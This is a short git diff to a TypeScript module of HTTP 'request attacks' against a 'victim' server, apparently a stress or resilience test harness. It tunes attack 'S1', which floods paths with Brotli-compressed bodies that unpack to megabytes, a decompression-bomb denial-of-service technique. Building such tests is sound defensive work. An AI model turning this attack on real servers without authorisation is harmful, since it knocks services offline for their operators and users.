@@ -1,7 +1,7 @@
 import { request, type OutgoingHttpHeaders } from 'node:http';
 import { connect } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
-import { brotliCompressSync } from 'node:zlib';
+import { brotliCompressSync, constants } from 'node:zlib';
 import { Counter, repeat, type Attack, type Victim } from './attack.js';
 
 const REQUEST_TIMEOUT_MS = 20_000;
@@ -58,7 +58,7 @@ export const REQUEST_ATTACKS: readonly Attack[] = [
     name: 'S1',
     does: 'bodies that unpack to megabytes, without a key, on every path',
     run: (victim, end) => {
-      const packed = brotliCompressSync(manyItems(7_800_000));
+      const packed = brotliCompressSync(manyItems(7_800_000), { params: { [constants.BROTLI_PARAM_QUALITY]: 2 } });
       return sendUntil(end, 4, (count) =>
         send(victim, 'POST', PACKED_PATHS[count % PACKED_PATHS.length] ?? '/', {
           headers: { ...json(), 'content-encoding': 'br' },
